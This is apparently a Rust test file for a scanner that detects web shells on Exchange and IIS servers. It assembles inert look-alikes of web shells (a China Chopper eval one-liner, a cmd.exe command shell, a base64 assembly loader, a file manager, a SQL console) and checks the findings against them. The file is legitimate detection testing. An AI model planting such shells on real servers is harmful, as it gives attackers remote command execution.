//! File checks end to end: inert look-alikes of each web-shell family, the OAB dump and each magic
//! mismatch, hash feeds, dumps and staged archives, external YARA rule sets, and bad input on
//! disk. Every look-alike is assembled here from pieces at test time, so no file in the
//! repository carries a web-shell signature.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common;

use common::shared;

fn scan(target: &Path, extra: &[&str]) -> (i32, Value) {
    common::scan_json(target, extra)
}

fn findings(v: &Value) -> Vec<Value> {
    v["servers"][0]["findings"].as_array().unwrap().clone()
}

/// (rule id, title) of the findings on one file.
fn on(v: &Value, file: &str) -> Vec<(String, String)> {
    findings(v)
        .iter()
        .filter(|f| f["evidence"]["path"].as_str().unwrap().ends_with(file))
        .map(|f| {
            (
                f["rule_id"].as_str().unwrap().to_string(),
                f["title"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn has(v: &Value, file: &str, rule: &str, title_part: &str) -> bool {
    on(v, file)
        .iter()
        .any(|(r, t)| r == rule && t.contains(title_part))
}

fn write(root: &Path, rel: &str, bytes: &[u8]) -> PathBuf {
    let p = rel.split('/').fold(root.to_path_buf(), |p, c| p.join(c));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, bytes).unwrap();
    p
}

// Pieces of the look-alikes. Joined only in memory.
const EV: &str = "ev";
const AL: &str = "al";
fn page() -> String {
    "<%@ Page Language=\"C#\" %>\r\n".into()
}

fn chopper() -> String {
    format!("<script language=\"JScript\" runat=\"server\">function Page_Load(){{{EV}{AL}(Request[\"k\"],\"uns\" + \"afe\");}}</script>")
        .replace("\"uns\" + \"afe\"", &format!("\"{}{}\"", "uns", "afe"))
}

fn eval_shell() -> String {
    format!(
        "{}<% {EV}{AL}(Request.Item[\"p\"]); %>",
        page().replace("C#", "Jscript")
    )
}

fn process_shell() -> String {
    format!(
        "{}<script runat=\"server\">void Page_Load(object s, EventArgs e) {{ var i = new System.Diagnostics.Process{}Info(\"cmd{}\"); i.Arguments = \"/c \" + Request.Form[\"c\"]; i.RedirectStandardOutput = true; System.Diagnostics.Process.Start(i); }}</script>",
        page(),
        "Start",
        ".exe"
    )
}

fn loader_shell() -> String {
    format!(
        "{}<script runat=\"server\">void Page_Load() {{ System.Reflection.Assembly.{}(Convert.FromBase64String(Request.Form[\"d\"])).CreateInstance(\"U\"); }}</script>",
        page(),
        "Load"
    )
}

fn file_manager() -> String {
    format!(
        "{}<script runat=\"server\">void Page_Load() {{ foreach (var f in System.IO.Directory.{}(Request.QueryString[\"d\"])) Response.Write(f); if (Request.Files.Count > 0) Request.Files[0].{}(Request.Form[\"to\"]); System.IO.File.Delete(Request.Form[\"rm\"]); }}</script>",
        page(),
        "GetFiles",
        "SaveAs"
    )
}

fn sql_console() -> String {
    format!(
        "{}<script runat=\"server\">void Page_Load() {{ var c = new System.Data.SqlClient.Sql{}(Request.Form[\"cs\"]); var q = new System.Data.SqlClient.SqlCommand(Request.Form[\"q\"], c); c.Open(); var r = q.{}(); }}</script>",
        page(),
        "Connection",
        "ExecuteReader"
    )
}

fn oab_dump() -> String {
    format!(
        "OfflineAddressBooks             : \\Default Offline Address Book\r\nExtendedProtectionTokenChecking : None\r\nInternalAuthenticationMethods   : WindowsIntegrated\r\nExternalUrl                     : http://f/{}\r\n",
        chopper()
    )
}

fn with_magic(magic: &[u8], rest: &str) -> Vec<u8> {
    let mut v = magic.to_vec();
    v.extend(std::iter::repeat_n(0u8, 64));
    v.extend(rest.as_bytes());
    v
}

#[test]
fn every_web_shell_family_and_magic_mismatch_is_detected() {
    let t = tempfile::tempdir().unwrap();
    let ac = "inetpub/wwwroot/aspnet_client";
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "chopper.aspx",
            format!("{}{}", page(), chopper()).into_bytes(),
        ),
        ("evalshell.aspx", eval_shell().into_bytes()),
        ("cmdshell.aspx", process_shell().into_bytes()),
        ("loader.aspx", loader_shell().into_bytes()),
        ("files.aspx", file_manager().into_bytes()),
        ("sql.aspx", sql_console().into_bytes()),
        ("oabdump.aspx", oab_dump().into_bytes()),
        (
            "export.aspx",
            with_magic(
                b"!BDN",
                &format!("{}{}", page(), "<% Response.Write(1); %>"),
            ),
        ),
        ("cert.aspx", with_magic(&[0x30, 0x82, 0x05, 0x10], &page())),
        (
            "tool.aspx",
            with_magic(b"MZ\x90\x00", "This program cannot be run"),
        ),
        ("packed.aspx", with_magic(b"PK\x03\x04", "payload")),
    ];
    for (name, bytes) in &cases {
        write(t.path(), &format!("{ac}/{name}"), bytes);
    }
    let (code, v) = scan(t.path(), &[]);
    assert_eq!(code, 1);
    let yara = |file: &str, rule: &str| {
        assert!(
            has(&v, file, "EXH-YARA-1", rule),
            "{file}: {rule} missing from {:?}",
            on(&v, file)
        )
    };
    yara("chopper.aspx", "EXH_ChinaChopper_OneLiner");
    yara("evalshell.aspx", "EXH_ASPX_Eval_Of_Request_Data");
    yara("cmdshell.aspx", "EXH_ASPX_Process_From_Request_Data");
    yara("loader.aspx", "EXH_ASPX_Assembly_Load_Of_Request_Bytes");
    yara("oabdump.aspx", "EXH_OAB_VirtualDirectory_Dump_With_Script");
    yara("export.aspx", "EXH_Export_Written_As_Page");
    for (file, what) in [
        ("export.aspx", "PST"),
        ("cert.aspx", "DER"),
        ("tool.aspx", "PE"),
        ("packed.aspx", "zip archive"),
    ] {
        assert!(
            has(&v, file, "EXH-FS-3", what),
            "{file}: {what} missing from {:?}",
            on(&v, file)
        );
    }
    // Content decides: a page whose server code does what web shells do is one (EXH-FS-9,
    // naming what it does), wherever it is; the files without such code are listed for review
    // by their place (EXH-FS-1), beside what their magic says.
    for (name, capability) in [
        ("chopper.aspx", "dynamic-evaluation"),
        ("evalshell.aspx", "dynamic-evaluation"),
        ("cmdshell.aspx", "command-execution"),
        ("loader.aspx", "assembly-load"),
        ("files.aspx", "file-manager"),
        ("sql.aspx", "sql-console"),
        ("oabdump.aspx", "dynamic-evaluation"),
    ] {
        assert!(
            has(&v, name, "EXH-FS-9", capability),
            "{name}: {capability} missing from {:?}",
            on(&v, name)
        );
        assert!(!has(&v, name, "EXH-FS-1", ""), "{name}");
    }
    // A YARA rule speaks for the exports: no review by place beside it.
    assert!(!has(&v, "export.aspx", "EXH-FS-1", ""));
    assert!(!has(&v, "cert.aspx", "EXH-FS-1", ""));
    for name in ["tool.aspx", "packed.aspx"] {
        assert!(
            has(&v, name, "EXH-FS-1", "REVIEW: unknown server-side script"),
            "{name}: {:?}",
            on(&v, name)
        );
    }
    let post = &v["servers"][0]["verdicts"][3];
    assert_eq!(post["campaign"], "post-exploitation");
    assert_eq!(post["verdict"], "compromised");
}

#[test]
fn clean_pages_and_near_misses_give_no_finding() {
    let t = tempfile::tempdir().unwrap();
    let auth = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth";
    write(t.path(), &format!("{auth}/logon.aspx"), page().as_bytes());
    write(
        t.path(),
        &format!("{auth}/15.1.2176/themes/resources/logon.css"),
        b"body{}",
    );
    write(t.path(), "inetpub/wwwroot/iisstart.htm", b"<html></html>");
    // A page that reads the request and writes a response, with no eval, process, load, file or
    // SQL call: ordinary ASP.NET.
    let ordinary = format!(
        "{}<script runat=\"server\">void Page_Load() {{ Response.Write(Server.HtmlEncode(Request.QueryString[\"q\"])); }}</script>",
        page()
    );
    write(
        t.path(),
        &format!("{auth}/signout.aspx"),
        ordinary.as_bytes(),
    );
    // A backup agent's archive in ProgramData and VMware's manifests are recognised.
    // An empty zip: the end-of-central-directory record alone.
    let empty_zip = [b"PK\x05\x06".as_slice(), &[0u8; 18]].concat();
    write(
        t.path(),
        "ProgramData/McAfee/Common Framework/Update.zip",
        &empty_zip,
    );
    write(
        t.path(),
        "ProgramData/VMware/VMware Tools/vss_manifests1.zip",
        &empty_zip,
    );
    let (_, v) = scan(t.path(), &[]);
    assert!(findings(&v).is_empty(), "{:#?}", findings(&v));
    assert_eq!(
        v["servers"][0]["verdicts"][3]["campaign"],
        "post-exploitation"
    );
    assert_eq!(v["servers"][0]["verdicts"][3]["verdict"], "no-evidence");
}

#[test]
fn unexpected_files_below_owa_auth_and_in_ecp_auth() {
    let t = tempfile::tempdir().unwrap();
    let fe = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy";
    write(
        t.path(),
        &format!("{fe}/owa/auth/Current/scripts/premium/x0.aspx"),
        page().as_bytes(),
    );
    write(
        t.path(),
        &format!("{fe}/owa/auth/15.1.2176/themes/a.aspx"),
        page().as_bytes(),
    );
    write(
        t.path(),
        &format!("{fe}/owa/auth/OutlookEN.aspx"),
        page().as_bytes(),
    );
    write(
        t.path(),
        &format!("{fe}/ecp/auth/TimeoutLogoff.aspx"),
        page().as_bytes(),
    );
    write(t.path(), &format!("{fe}/ecp/auth/notes.txt"), b"hello");
    let (_, v) = scan(t.path(), &[]);
    assert!(has(
        &v,
        "Current/scripts/premium/x0.aspx",
        "EXH-FS-1",
        "server-side script"
    ));
    assert!(has(
        &v,
        "15.1.2176/themes/a.aspx",
        "EXH-FS-1",
        "server-side script"
    ));
    assert!(has(
        &v,
        "owa/auth/OutlookEN.aspx",
        "EXH-FS-1",
        "server-side script"
    ));
    assert!(has(
        &v,
        "ecp/auth/notes.txt",
        "EXH-FS-1",
        "REVIEW: unknown file"
    ));
    assert!(on(&v, "TimeoutLogoff.aspx").is_empty());
}

#[test]
fn hash_feeds_dumps_and_staged_archives() {
    let t = tempfile::tempdir().unwrap();
    let shell = write(
        t.path(),
        "inetpub/wwwroot/aspnet_client/system_web/q.txt",
        b"looks harmless",
    );
    let sha = {
        use sha2::Digest as _;
        hex::encode(sha2::Sha256::digest(std::fs::read(&shell).unwrap()))
    };
    let feeds = tempfile::tempdir().unwrap();
    let feed = feeds.path().join("feed.csv");
    std::fs::write(
        &feed,
        format!(
            "indicator,type,description\n{sha},sha256,shell of a test actor\n8.8.8.8,ip,unused\n"
        ),
    )
    .unwrap();
    let mut dump = b"MDMP\x93\xa7\0\0".to_vec();
    dump.resize(2048, 0);
    write(t.path(), "Users/Public/Pictures/p.gif", &dump);
    write(t.path(), "ProgramData/it.7z", b"7z\xbc\xaf\x27\x1c");
    write(t.path(), "Windows/Temp/out.rar", b"Rar!\x1a\x07");
    let (_, v) = scan(t.path(), &["--ioc", feed.to_str().unwrap()]);
    assert!(
        has(&v, "q.txt", "EXH-FS-2", "shell of a test actor"),
        "{:?}",
        on(&v, "q.txt")
    );
    assert!(has(&v, "Pictures/p.gif", "EXH-FS-5", "Memory dump"));
    assert!(has(&v, "ProgramData/it.7z", "EXH-FS-6", "staging place"));
    assert!(has(&v, "Temp/out.rar", "EXH-FS-6", "staging place"));
    let feed_info = &v["rules"]["ioc_feeds"][0];
    assert_eq!(feed_info["hashes"], 1);
    assert_eq!(
        feed_info["unused"][0],
        "1 × not a file hash (used by later checks, not by file checks)"
    );
}

#[test]
fn a_web_shell_found_only_on_disk_joins_its_requests() {
    let t = tempfile::tempdir().unwrap();
    write(
        t.path(),
        "inetpub/wwwroot/aspnet_client/y4.aspx",
        eval_shell().as_bytes(),
    );
    let log = "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n2021-03-07 01:02:03 10.0.0.1 POST /aspnet_client/y4.aspx - 443 - 198.51.100.7 curl/7.1 - 200 0 0 5\r\n2021-03-07 01:02:04 10.0.0.1 GET /aspnet_client/shell.aspx - 443 - 198.51.100.8 curl/7.1 - 404 0 0 5\r\n";
    write(
        t.path(),
        "inetpub/logs/LogFiles/W3SVC1/u_ex210307.log",
        log.as_bytes(),
    );
    let (_, v) = scan(t.path(), &[]);
    let f = findings(&v);
    let used: Vec<&Value> = f.iter().filter(|f| f["rule_id"] == "EXH-FS-8").collect();
    assert_eq!(used.len(), 1, "{f:#?}");
    assert_eq!(used[0]["stage"], "web-shell-use");
    assert_eq!(used[0]["entities"]["client_ip"], "198.51.100.7");
    let probe: Vec<&Value> = f.iter().filter(|f| f["rule_id"] == "EXH-FS-7").collect();
    assert_eq!(probe.len(), 1);
    assert_eq!(probe[0]["stage"], "scan");
}

#[test]
fn signature_base_loads_with_a_report_and_its_folder_is_never_scanned() {
    let Some(data) = shared() else { return };
    let sb = data.join("Neo23x0_signature-base/yara");
    // The rule folder inside the target: it must be skipped, not reported as web shells.
    let t = tempfile::tempdir().unwrap();
    let inside = t.path().join("inetpub/wwwroot/tools/yara");
    std::fs::create_dir_all(&inside).unwrap();
    for e in std::fs::read_dir(&sb).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), inside.join(e.file_name())).unwrap();
    }
    let (_, v) = scan(t.path(), &["--yara", inside.to_str().unwrap(), "--deep"]);
    let rules = &v["rules"];
    assert!(rules["yara_rules"].as_u64().unwrap() > 500, "{rules}");
    assert_eq!(rules["yara_files"].as_array().unwrap().len(), 15);
    for r in rules["yara_rejected"].as_array().unwrap() {
        assert!(
            r["file"].as_str().unwrap().ends_with(".yar")
                && !r["reason"].as_str().unwrap().is_empty(),
            "{r}"
        );
    }
    assert!(
        findings(&v).is_empty(),
        "rule files were scanned: {:#?}",
        findings(&v)
    );
    let skipped = v["servers"][0]["coverage"]["skipped"].to_string();
    assert!(skipped.contains("never scanned as evidence"));
    // And the public rules find the look-alike Chopper next to the built-in pack.
    let t2 = tempfile::tempdir().unwrap();
    write(
        t2.path(),
        "inetpub/wwwroot/aspnet_client/c.aspx",
        format!("{}{}", page(), chopper()).as_bytes(),
    );
    let (_, v) = scan(t2.path(), &["--yara", sb.to_str().unwrap()]);
    let ext: Vec<(String, String)> = on(&v, "c.aspx")
        .into_iter()
        .filter(|(r, _)| r == "EXH-YARA-2")
        .collect();
    assert!(!ext.is_empty(), "{:?}", on(&v, "c.aspx"));
    assert!(
        ext.iter().any(|(_, t)| t.contains("rule by")),
        "attribution of the rule author: {ext:?}"
    );
}

#[test]
fn clean_exchange_configuration_files_give_no_finding() {
    let Some(data) = shared() else { return };
    let (_, v) = scan(&data.join("microsoft_CSS-Exchange"), &["--deep"]);
    assert!(findings(&v).is_empty(), "{:#?}", findings(&v));
    let kinds = v["servers"][0]["coverage"]["kinds"].to_string();
    assert!(
        kinds.contains("\"file\""),
        "--deep looked at the files: {kinds}"
    );
}

// ---- bad input on disk ----

#[test]
fn names_that_are_not_utf8_deep_trees_and_symlink_loops() {
    let t = tempfile::tempdir().unwrap();
    let ac = t
        .path()
        .join("inetpub")
        .join("wwwroot")
        .join("aspnet_client");
    std::fs::create_dir_all(&ac).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::ffi::OsStrExt;
        let name = std::ffi::OsStr::from_bytes(b"sh\xffell.aspx");
        std::fs::write(ac.join(name), eval_shell()).unwrap();
        std::os::unix::fs::symlink(t.path(), ac.join("loop")).unwrap();
    }
    let mut deep = t.path().join("inetpub").join("wwwroot");
    for i in 0..150 {
        deep = deep.join(format!("d{i}"));
    }
    std::fs::create_dir_all(&deep).unwrap();
    std::fs::write(deep.join("deep.aspx"), eval_shell()).unwrap();
    let (_, v) = scan(t.path(), &[]);
    assert!(has(
        &v,
        "deep.aspx",
        "EXH-YARA-1",
        "EXH_ASPX_Eval_Of_Request_Data"
    ));
    #[cfg(unix)]
    {
        assert!(
            has(
                &v,
                "sh\u{FFFD}ell.aspx",
                "EXH-YARA-1",
                "EXH_ASPX_Eval_Of_Request_Data"
            ),
            "{:#?}",
            findings(&v)
        );
        let problems = v["servers"][0]["coverage"]["problems"].to_string();
        assert!(
            problems.contains("symbolic link, not followed"),
            "{problems}"
        );
    }
}

#[test]
fn a_huge_sparse_file_is_not_read_whole() {
    let t = tempfile::tempdir().unwrap();
    let p = write(t.path(), "inetpub/wwwroot/aspnet_client/big.aspx", b"!BDN");
    let f = std::fs::OpenOptions::new().write(true).open(&p).unwrap();
    f.set_len(300 << 20).unwrap(); // 300 MiB, sparse where the file system allows: above the 256 MiB cap
    drop(f);
    let start = std::time::Instant::now();
    let (_, v) = scan(t.path(), &[]);
    assert!(
        start.elapsed() < std::time::Duration::from_secs(60),
        "content of a huge file was read"
    );
    assert!(
        has(&v, "big.aspx", "EXH-FS-3", "PST"),
        "magic still checked: {:?}",
        on(&v, "big.aspx")
    );
    let problems = v["servers"][0]["coverage"]["problems"].to_string();
    assert!(problems.contains("limit for content checks"), "{problems}");
}

#[test]
fn an_unreadable_web_file_is_inconclusive() {
    let t = tempfile::tempdir().unwrap();
    let p = write(
        t.path(),
        "inetpub/wwwroot/aspnet_client/locked.aspx",
        page().as_bytes(),
    );
    write(t.path(), "inetpub/wwwroot/iisstart.htm", b"<html></html>");
    let args = [
        "scan".as_ref(),
        t.path().as_os_str(),
        "--format".as_ref(),
        "json".as_ref(),
        "-q".as_ref(),
    ];
    let Some(out) = common::run_without_access(t.path(), &p, &args) else {
        eprintln!("skipped: no way to make a file unreadable here (root without setpriv)");
        return;
    };
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let post = &v["servers"][0]["verdicts"][3];
    assert_eq!(post["verdict"], "inconclusive", "{post}");
    let problems = v["servers"][0]["coverage"]["problems"].to_string();
    assert!(problems.contains("permission denied"), "{problems}");
}

/// Pages of an ordinary intranet application, in the shapes real applications use: a WebForms
/// page with code-behind, a page with inline code and a data-binding expression, an upload
/// handler that saves into its own folder, an .asmx service, a Global.asax, a redirect page.
fn intranet_app() -> Vec<(&'static str, String)> {
    vec![
        (
            "Default.aspx",
            "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" CodeBehind=\"Default.aspx.cs\" Inherits=\"Intranet._Default\" %>\r\n<html><body><form runat=\"server\"><asp:Repeater ID=\"News\" runat=\"server\"><ItemTemplate><%# Eval(\"Title\") %></ItemTemplate></asp:Repeater></form></body></html>".into(),
        ),
        (
            "hello.aspx",
            "<%@ Page Language=\"C#\" %>\r\n<html><body>Hello <%= DateTime.Now %></body></html>".into(),
        ),
        (
            "phones.aspx",
            "<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">\r\nvoid Page_Load(object s, EventArgs e) {\r\n  var q = Request.QueryString[\"name\"] ?? \"\";\r\n  using (var c = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager.ConnectionStrings[\"hr\"].ConnectionString)) {\r\n    var cmd = new System.Data.SqlClient.SqlCommand(\"select name, phone from people where name like @q\", c);\r\n    cmd.Parameters.AddWithValue(\"@q\", q + \"%\"); c.Open(); Grid.DataSource = cmd.ExecuteReader(); Grid.DataBind(); }\r\n}\r\n</script>\r\n<html><body><asp:GridView ID=\"Grid\" runat=\"server\"/></body></html>".into(),
        ),
        (
            "upload.ashx",
            "<%@ WebHandler Language=\"C#\" Class=\"Upload\" %>\r\nusing System; using System.Web; using System.IO;\r\npublic class Upload : IHttpHandler {\r\n  public void ProcessRequest(HttpContext ctx) {\r\n    var f = ctx.Request.Files[0];\r\n    var name = Guid.NewGuid().ToString(\"N\") + Path.GetExtension(f.FileName);\r\n    f.SaveAs(ctx.Server.MapPath(\"~/App_Data/uploads/\" + name));\r\n    ctx.Response.Write(name);\r\n  }\r\n  public bool IsReusable { get { return false; } }\r\n}".into(),
        ),
        (
            "Directory.asmx",
            "<%@ WebService Language=\"C#\" CodeBehind=\"Directory.asmx.cs\" Class=\"Intranet.DirectoryService\" %>".into(),
        ),
        (
            "Global.asax",
            "<%@ Application Language=\"C#\" %>\r\n<script runat=\"server\">\r\nvoid Application_Start(object sender, EventArgs e) { System.Web.Routing.RouteTable.Routes.Ignore(\"{resource}.axd/{*pathInfo}\"); }\r\n</script>".into(),
        ),
        (
            "owa.aspx",
            "<%@ Page Language=\"C#\" %>\r\n<% Response.Redirect(\"https://mail.contoso.com/owa\"); %>".into(),
        ),
    ]
}

#[test]
fn an_intranet_app_is_for_review_and_a_shell_among_its_pages_is_a_compromise() {
    let t = tempfile::tempdir().unwrap();
    for (name, text) in intranet_app() {
        write(
            t.path(),
            &format!("inetpub/wwwroot/intranet/{name}"),
            text.as_bytes(),
        );
    }
    write(
        t.path(),
        "inetpub/wwwroot/intranet/web.config",
        b"<?xml version=\"1.0\"?><configuration><system.web><compilation targetFramework=\"4.8\"/></system.web></configuration>",
    );
    let (_, v) = scan(t.path(), &[]);
    let post = &v["servers"][0]["verdicts"][3];
    assert_eq!(post["campaign"], "post-exploitation");
    assert_ne!(post["verdict"], "compromised", "{post} {:#?}", findings(&v));
    assert!(
        post["summary"].as_str().unwrap().starts_with("REVIEW:"),
        "{post}"
    );
    let all = findings(&v);
    assert!(
        all.iter()
            .all(|f| f["confidence"] == "low" && f["rule_id"] == "EXH-FS-1"),
        "{all:#?}"
    );
    assert!(has(
        &v,
        "intranet/hello.aspx",
        "EXH-FS-1",
        "inline server code with no web-shell capability"
    ));
    // The same application with a command shell among its pages.
    write(
        t.path(),
        "inetpub/wwwroot/intranet/report.aspx",
        process_shell().as_bytes(),
    );
    let (code, v) = scan(t.path(), &[]);
    assert_eq!(code, 1);
    assert_eq!(v["servers"][0]["verdicts"][3]["verdict"], "compromised");
    assert!(has(
        &v,
        "intranet/report.aspx",
        "EXH-FS-9",
        "command-execution"
    ));
}

const HOST_CONFIG: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.applicationHost>
    <sites>
      <site name="Default Web Site" id="1">
        <application path="/" applicationPool="DefaultAppPool">
          <virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" />
        </application>
      </site>
      <site name="crm" id="2">
        <application path="/" applicationPool="crm">
          <virtualDirectory path="/" physicalPath="D:\Web\crm" />
        </application>
      </site>
    </sites>
  </system.applicationHost>
</configuration>
"#;

#[test]
fn scripts_of_a_second_site_in_the_iis_configuration_are_read_without_deep() {
    let t = tempfile::tempdir().unwrap();
    write(
        t.path(),
        "C/Windows/System32/inetsrv/config/applicationHost.config",
        HOST_CONFIG.as_bytes(),
    );
    write(
        t.path(),
        "D/Web/crm/files/x.aspx",
        file_manager().as_bytes(),
    );
    // The same page in a folder no site serves is not opened without --deep.
    write(t.path(), "D/Backup/old/x.aspx", file_manager().as_bytes());
    let (code, v) = scan(t.path(), &[]);
    assert_eq!(code, 1);
    assert!(
        has(&v, "crm/files/x.aspx", "EXH-FS-9", "file-manager"),
        "{:?}",
        findings(&v)
    );
    assert!(on(&v, "Backup/old/x.aspx").is_empty());
    let roots = v["servers"][0]["coverage"]["web_roots"].as_array().unwrap();
    let crm = roots
        .iter()
        .find(|r| r["site"] == "crm")
        .expect("the crm site in the coverage");
    assert_eq!(crm["folder"], "D:\\Web\\crm");
    assert_eq!(crm["url"], "/");
    assert_eq!(crm["scripts"], 1);
    assert!(
        crm["source"]
            .as_str()
            .unwrap()
            .ends_with("applicationHost.config")
    );
    // With --deep the unserved copy is read too.
    let (_, v) = scan(t.path(), &["--deep"]);
    assert!(has(&v, "Backup/old/x.aspx", "EXH-FS-9", "file-manager"));
}

/// A web shell in a site the IIS configuration names, outside `inetpub` and Exchange's folders:
/// its requests are found at the URL the site serves it under (the site's root, or an
/// application's virtual path), not at a guess from the folder names.
#[test]
fn a_shell_in_a_configured_site_joins_its_requests_at_the_sites_url() {
    let t = tempfile::tempdir().unwrap();
    let config = HOST_CONFIG.replace(
        "      </site>\n    </sites>",
        "      </site>\n      <site name=\"intranet\" id=\"3\">\n        <application path=\"/portal\" applicationPool=\"portal\">\n          <virtualDirectory path=\"/\" physicalPath=\"D:\\Web\\portal\" />\n        </application>\n      </site>\n    </sites>",
    );
    assert!(config.contains("portal"));
    write(
        t.path(),
        "C/Windows/System32/inetsrv/config/applicationHost.config",
        config.as_bytes(),
    );
    write(t.path(), "D/Web/crm/files/up.aspx", eval_shell().as_bytes());
    write(t.path(), "D/Web/portal/x.aspx", eval_shell().as_bytes());
    // A page of the application, requested too: not a shell, so its requests are nothing.
    write(t.path(), "D/Web/crm/files/list.aspx", page().as_bytes());
    let line = |stem: &str, ip: &str| {
        format!("2021-03-07 01:02:03 10.0.0.1 POST {stem} - 443 - {ip} curl/7.1 - 200 0 0 5\r\n")
    };
    let log = format!(
        "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n{}{}{}{}{}",
        line("/files/up.aspx", "198.51.100.9"),
        line("/portal/x.aspx", "198.51.100.10"),
        // Near misses: the shell's name at another path, and the folder path the site does
        // not serve it under.
        line("/up.aspx", "198.51.100.11"),
        line("/Web/crm/files/up.aspx", "198.51.100.12"),
        line("/files/list.aspx", "198.51.100.13"),
    );
    write(
        t.path(),
        "C/inetpub/logs/LogFiles/W3SVC2/u_ex210307.log",
        log.as_bytes(),
    );
    let (code, v) = scan(t.path(), &[]);
    assert_eq!(code, 1);
    let f = findings(&v);
    let shell_url = |file: &str| {
        f.iter()
            .find(|x| {
                x["rule_id"] == "EXH-FS-9"
                    && x["evidence"]["path"].as_str().unwrap().ends_with(file)
            })
            .map(|x| x["entities"]["url"].clone())
    };
    assert_eq!(
        shell_url("up.aspx"),
        Some(Value::from("/files/up.aspx")),
        "{f:#?}"
    );
    assert_eq!(shell_url("x.aspx"), Some(Value::from("/portal/x.aspx")));
    let mut used: Vec<&str> = f
        .iter()
        .filter(|x| x["rule_id"] == "EXH-FS-8")
        .map(|x| x["entities"]["client_ip"].as_str().unwrap())
        .collect();
    used.sort_unstable();
    assert_eq!(used, ["198.51.100.10", "198.51.100.9"], "{f:#?}");
}

#[test]
fn a_shell_under_a_shipped_exchange_page_name_is_found() {
    let t = tempfile::tempdir().unwrap();
    let auth = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth";
    // Decode-then-eval, the shape of the 2022 rewrite of RedirSuiteServiceProxy.aspx.
    let body = format!(
        "<%@ Page Language=\"Jscript\" Debug=true%>\r\n<%var a=System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Form[\"k\"]));{EV}{AL}(a,\"{}{}\");%>",
        "uns", "afe"
    );
    write(
        t.path(),
        &format!("{auth}/RedirSuiteServiceProxy.aspx"),
        body.as_bytes(),
    );
    // A shipped page in its shipped shape says nothing.
    write(
        t.path(),
        &format!("{auth}/logon.aspx"),
        b"<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n<html><body><%=LocalizedStrings.GetHtmlEncoded(Strings.LogonTitle)%></body></html>",
    );
    // A shipped name with a long inline script and no code-behind is odd: listed for review.
    let odd = format!(
        "<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">\r\n{}</script>",
        "void Page_Load(object s, EventArgs e) { Response.Write(System.DateTime.UtcNow.ToString()); }\r\n"
            .repeat(6)
    );
    write(t.path(), &format!("{auth}/signout.aspx"), odd.as_bytes());
    let (code, v) = scan(t.path(), &[]);
    assert_eq!(code, 1);
    assert!(
        has(
            &v,
            "auth/RedirSuiteServiceProxy.aspx",
            "EXH-FS-9",
            "dynamic-evaluation"
        ),
        "{:?}",
        findings(&v)
    );
    assert!(on(&v, "auth/logon.aspx").is_empty());
    assert!(has(
        &v,
        "auth/signout.aspx",
        "EXH-FS-10",
        "not the shape of the shipped page"
    ));
    assert_eq!(v["servers"][0]["verdicts"][3]["verdict"], "compromised");
}

#[test]
fn exchange_shipped_application_pages_are_read_but_not_listed_for_review() {
    let t = tempfile::tempdir().unwrap();
    let v15 = "Program Files/Microsoft/Exchange Server/V15";
    write(
        t.path(),
        "Windows/System32/inetsrv/config/applicationHost.config",
        format!(
            "<configuration><system.applicationHost><sites><site name=\"Exchange Back End\" id=\"2\"><application path=\"/ecp\"><virtualDirectory path=\"/\" physicalPath=\"C:\\{}\\ClientAccess\\ecp\" /></application></site></sites></system.applicationHost></configuration>",
            v15.replace('/', "\\")
        )
        .as_bytes(),
    );
    // Shipped pages of ECP: compiled code-behind, inline expressions, a web.config.
    for name in [
        "default.aspx",
        "Reporting/ReportPage.aspx",
        "Controls/Header.ascx",
    ] {
        write(
            t.path(),
            &format!("{v15}/ClientAccess/ecp/{name}"),
            b"<%@ Page Language=\"C#\" Inherits=\"Microsoft.Exchange.Management.ControlPanel.BasePage\" %>\r\n<%@ Register TagPrefix=\"ecp\" Namespace=\"Microsoft.Exchange.Management.ControlPanel\" %>\r\n<html><body><%= Strings.Title %></body></html>",
        );
    }
    write(
        t.path(),
        &format!("{v15}/ClientAccess/ecp/web.config"),
        b"<configuration/>",
    );
    // A shell among them is found by its content.
    write(
        t.path(),
        &format!("{v15}/ClientAccess/ecp/Reporting/x.aspx"),
        eval_shell().as_bytes(),
    );
    let (code, v) = scan(t.path(), &[]);
    assert_eq!(code, 1);
    assert!(has(
        &v,
        "ecp/Reporting/x.aspx",
        "EXH-FS-9",
        "dynamic-evaluation"
    ));
    for name in ["ecp/default.aspx", "ReportPage.aspx", "Header.ascx"] {
        assert!(on(&v, name).is_empty(), "{name}: {:?}", on(&v, name));
    }
}
